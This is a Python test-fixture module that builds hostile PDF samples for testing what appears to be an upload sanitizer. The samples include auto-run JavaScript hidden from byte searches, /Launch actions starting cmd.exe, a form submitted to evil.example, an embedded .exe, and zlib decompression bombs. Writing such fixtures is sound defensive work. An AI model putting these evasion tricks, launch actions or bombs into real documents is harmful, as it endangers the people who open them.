"""PDFs made to harm: (what, name, build, code, whether slow)."""

import io
import zlib
from collections.abc import Callable

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    PdfObject,
)

from tests.portal.files.samples import action, note, simple_pdf, stream, words, written


def opening_with(**keys: PdfObject) -> bytes:
    """A PDF that does something when it is opened."""
    kind = str(keys.pop("S"))
    writer = simple_pdf()
    writer.root_object[NameObject("/OpenAction")] = action(kind, **keys)
    return written(writer)


def rooted(key: str, value: PdfObject) -> bytes:
    writer = simple_pdf()
    writer.root_object[NameObject(key)] = value
    return written(writer)


def annotated(subtype: str, **keys: object) -> bytes:
    writer = simple_pdf()
    writer.pages[0][NameObject("/Annots")] = ArrayObject(
        [writer._add_object(note(subtype, **keys))]
    )
    return written(writer)


def with_attachment() -> bytes:
    writer = simple_pdf()
    writer.add_attachment("a.exe", b"MZ")
    return written(writer)


def encrypted() -> bytes:
    writer = simple_pdf()
    writer.encrypt("", "owner", algorithm="RC4-128")
    return written(writer)


def with_stream(data: bytes, filters: PdfObject) -> bytes:
    """A PDF whose page draws a form that unpacks so."""
    writer = simple_pdf()
    form = stream(data, Filter=filters, Subtype=NameObject("/Form"))
    writer.pages[0]["/Resources"][NameObject("/XObject")] = DictionaryObject(
        {NameObject("/X"): writer._add_object(form)}
    )
    return written(writer)


def zeros(megabytes: int) -> bytes:
    engine = zlib.compressobj(9)
    return b"".join(engine.compress(bytes(1024 * 1024)) for _ in range(megabytes)) + engine.flush()


def with_image(width: int, height: int) -> bytes:
    writer = simple_pdf()
    image = stream(b"", Subtype=NameObject("/Image"))
    image[NameObject("/Width")] = NumberObject(width)
    image[NameObject("/Height")] = NumberObject(height)
    writer.pages[0]["/Resources"][NameObject("/XObject")] = DictionaryObject(
        {NameObject("/X"): writer._add_object(image)}
    )
    return written(writer)


def of_size(side: int) -> bytes:
    writer = simple_pdf()
    writer.pages[0][NameObject("/MediaBox")] = ArrayObject(
        FloatObject(value) for value in (0, 0, side, side)
    )
    return written(writer)


def handmade(objects: list[str], *, trailer: str = "", entries: int = 0) -> bytes:
    """A PDF of these objects, the first of which is its root."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1"))
    start = out.tell()
    places += [places[-1]] * entries
    out.write(f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n".encode())
    out.write(b"".join(f"{place:010} 00000 n \n".encode() for place in places))
    out.write(f"trailer <</Size {len(places) + 1} /Root 1 0 R {trailer}>>\n".encode())
    out.write(f"startxref\n{start}\n%%EOF\n".encode())
    return out.getvalue()


CATALOGUE = "<</Type /Catalog /Pages 2 0 R{}>>"
PAGES = "<</Type /Pages /Kids [3 0 R] /Count 1>>"
PAGE = "<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9]>>"


def packed_script() -> bytes:
    """A script in a stream of objects, where no search of the file's bytes finds it."""
    inner = b"4 0 <</S /JavaScript /JS (app.alert\\(1\\))>>"
    body = zlib.compress(inner)
    out = io.BytesIO()
    places = {}
    out.write(b"%PDF-1.7\n")
    for number, text in ((1, CATALOGUE.format(" /OpenAction 4 0 R")), (2, PAGES), (3, PAGE)):
        places[number] = out.tell()
        out.write(f"{number} 0 obj\n{text}\nendobj\n".encode())
    places[5] = out.tell()
    out.write(
        f"5 0 obj\n<</Type /ObjStm /N 1 /First 4 /Length {len(body)} /Filter /FlateDecode>>\n"
        "stream\n".encode()
        + body
        + b"\nendstream\nendobj\n"
    )
    start = out.tell()
    rows = [(0, 0, 255), *((1, places[n], 0) for n in (1, 2, 3)), (2, 5, 0), (1, places[5], 0)]
    table = b"".join(
        bytes([kind]) + place.to_bytes(4, "big") + bytes([last]) for kind, place, last in rows
    )
    packed = zlib.compress(table)
    out.write(
        f"6 0 obj\n<</Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length {len(packed)}"
        " /Filter /FlateDecode>>\nstream\n".encode()
        + packed
        + b"\nendstream\nendobj\n"
    )
    out.write(f"startxref\n{start}\n%%EOF\n".encode())
    return out.getvalue()


def table_bomb() -> bytes:
    """A table of places that unpacks to hundreds of megabytes before anything else is read."""
    packed = zeros(300)
    out = b"%PDF-1.7\n"
    start = len(out)
    out += (
        f"1 0 obj\n<</Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length {len(packed)}"
        " /Filter /FlateDecode>>\nstream\n"
    ).encode()
    return out + packed + f"\nendstream\nendobj\nstartxref\n{start}\n%%EOF\n".encode()


def many_pages(count: int) -> bytes:
    """One page, shown a thousand times over."""
    kids = " ".join(f"{number} 0 R" for number in range(3, count + 3))
    return handmade(
        [CATALOGUE.format(""), f"<</Type /Pages /Kids [{kids}] /Count {count}>>", *[PAGE] * count]
    )


def circle() -> bytes:
    return handmade(
        [CATALOGUE.format(""), "<</Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R>>"]
    )


def later(build: Callable[..., bytes], *args: object, **keys: object) -> Callable[[], bytes]:
    return lambda: build(*args, **keys)


def name(text: str) -> NameObject:
    return NameObject(text)


def truncated() -> bytes:
    return written(simple_pdf(pages=20))[:-400]


def rich_media() -> bytes:
    return annotated("/RichMedia", RichMediaContent=DictionaryObject())


def portfolio() -> bytes:
    return rooted("/Collection", DictionaryObject({name("/View"): name("/D")}))


def form_in_xml() -> bytes:
    return rooted("/AcroForm", DictionaryObject({name("/XFA"): words("<xdp/>")}))


def script_of_a_page() -> bytes:
    writer: PdfWriter = simple_pdf()
    writer.pages[0][name("/AA")] = DictionaryObject(
        {name("/O"): action("/JavaScript", JS=words("app.alert(1)"))}
    )
    return written(writer)


def in_disguise() -> bytes:
    """The word JavaScript, spelt so that no search of the file's bytes finds it."""
    return handmade([CATALOGUE.format(" /OpenAction <</S /J#61vaScript /J#53 (x)>>"), PAGES, PAGE])


FLATE = NameObject("/FlateDecode")
PDF = [
    ("a script on opening", "a.pdf", later(opening_with, S="/JavaScript", JS=words("1")),
     "rebuilt", False),
    ("a script of a page", "a.pdf", script_of_a_page, "rebuilt", False),
    ("a script in disguise", "a.pdf", in_disguise, "rebuilt", False),
    ("a script in packed objects", "a.pdf", packed_script, "rebuilt", False),
    ("scripts by name", "a.pdf",
     later(rooted, "/Names", DictionaryObject({name("/JavaScript"): DictionaryObject()})),
     "rebuilt", False),
    ("a program to start", "a.pdf", later(opening_with, S="/Launch", F=words("cmd.exe")),
     "rebuilt", False),
    ("a link that starts a program", "a.pdf",
     later(annotated, "/Link", A=action("/Launch", F=words("cmd.exe"))), "rebuilt", False),
    ("a form that is sent", "a.pdf",
     later(opening_with, S="/SubmitForm", F=words("http://evil.example")), "rebuilt", False),
    ("data that is fetched", "a.pdf", later(opening_with, S="/ImportData", F=words("x.fdf")),
     "rebuilt", False),
    ("a film", "a.pdf", later(annotated, "/Movie"), "rebuilt", False),
    ("rich media", "a.pdf", rich_media, "rebuilt", False),
    ("a model in three dimensions", "a.pdf", later(annotated, "/3D"), "rebuilt", False),
    ("an attachment", "a.pdf", with_attachment, "rebuilt", False),
    ("an attachment on a page", "a.pdf", later(annotated, "/FileAttachment"), "rebuilt", False),
    ("a way into an attachment", "a.pdf", later(opening_with, S="/GoToE"), "rebuilt", False),
    ("a portfolio", "a.pdf", portfolio, "rebuilt", False),
    ("a form in XML", "a.pdf", form_in_xml, "rebuilt", False),
    ("an encrypted PDF", "a.pdf", encrypted, "rebuilt", False),
    ("a stream of 200 MB", "a.pdf", lambda: with_stream(zeros(200), FLATE), "rebuilt", True),
    ("a stream packed twice", "a.pdf",
     lambda: with_stream(zlib.compress(zeros(50)), ArrayObject([FLATE, FLATE])), "rebuilt", False),
    ("a table of places of 300 MB", "a.pdf", table_bomb, "too-costly", True),
    ("an image of 40,000 by 40,000", "a.pdf", later(with_image, 40_000, 40_000), "rebuilt", False),
    ("a page of 100 metres", "a.pdf", later(of_size, 283_464), "rebuilt", False),
    ("1,200 pages", "a.pdf", later(many_pages, 1_200), "pdf-pages", False),
    ("150,000 objects", "a.pdf",
     later(handmade, [CATALOGUE.format(""), PAGES, PAGE], entries=150_000), "rebuilt", True),
    ("pages that hold themselves", "a.pdf", circle, "damaged", False),
    ("a PDF cut off", "a.pdf", truncated, "damaged", False),
    ("a PDF of nothing", "a.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "damaged", False),
    ("a PDF that ends in noise", "a.pdf", lambda: written(simple_pdf()) + b"\xff" * 5_000,
     "rebuilt", False),
]  # fmt: skip
